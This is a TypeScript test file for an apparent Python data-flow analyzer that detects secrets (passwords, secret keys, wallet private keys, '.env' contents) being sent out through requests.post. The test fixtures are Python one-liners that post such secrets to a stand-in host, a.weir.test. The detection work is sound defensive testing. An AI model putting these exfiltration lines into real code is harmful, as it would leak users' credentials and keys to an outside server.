import { describe, expect, test } from 'vitest';
import { LABEL, labelNames } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

const TOLD = LABEL.credential | LABEL.secretParam | LABEL.keyMaterial;

/** What the requests of a source send. */
const sent = (source: string): string[] =>
  analyzePython(`import collections, dataclasses, requests\n${source}`).flow.flows.map(({ labels }) =>
    labelNames(labels & TOLD).join('+'),
  );
const post = (what: string): string => `requests.post('https://a.weir.test', json=${what})`;

describe('what an object holds', () => {
  test.each([
    ['by vars', post('vars(self)')],
    ['by its dictionary', post('{k: v for k, v in self.__dict__.items()}')],
    ['by a method of a model', post('self.model_dump()')],
  ])('is sent with all of it: %s', (_what, statement) => {
    const source = `class User:\n  def __init__(self, name, password): self.name, self.p = name, password\n  def save(self): ${statement}`;
    expect(sent(source)).toEqual(['secretParam']);
  });

  test('is sent with a record', () => {
    expect(
      sent(
        `@dataclasses.dataclass\nclass D:\n  passphrase: str\n  def go(self): ${post('dataclasses.asdict(self)')}`,
      ),
    ).toEqual(['secretParam']);
    expect(
      sent(
        `N = collections.namedtuple('N', 'user password')\ndef go(password): ${post("N('x', password)._asdict()")}`,
      ),
    ).toEqual(['secretParam']);
  });

  test('is what was put into its dictionary', () => {
    const source = `class A:\n  def fill(self):\n    self.__dict__['text'] = open('.env').read()\n    ${post('self.text')}`;
    expect(sent(source)).toEqual(['credential']);
  });

  test('is not sent with another method', () => {
    const source = `class User:\n  def __init__(self, name, password): self.name, self.p = name, password\n  def save(self): ${post('self.describe()')}`;
    expect(sent(source)).toEqual(['']);
  });
});

describe('an attribute of what a caller gives', () => {
  test.each([
    ['a password', 'def go(cfg): ', 'cfg.password', 'secretParam'],
    [
      'of an object that was kept',
      'class A:\n  def __init__(self, cfg): self.cfg = cfg\n  def go(self): ',
      'self.cfg.secret_key',
      'secretParam',
    ],
    ['the key of a wallet', 'def go(wallet): ', 'wallet.private_key', 'keyMaterial+secretParam'],
    ['the key that a program signs in with', 'def go(app): ', 'app.private_key', 'secretParam'],
    ['a token, by which clients sign in', 'def go(cfg): ', 'cfg.token', ''],
    ['any other', 'def go(user): ', 'user.name', ''],
  ])('is a secret by its name: %s', (_what, head, what, labels) => {
    expect(sent(head + post(what))).toEqual([labels]);
  });

  test('is none where the object is not one of a caller', () => {
    expect(sent(`import settings\n${post('settings.password')}`)).toEqual(['']);
  });
});
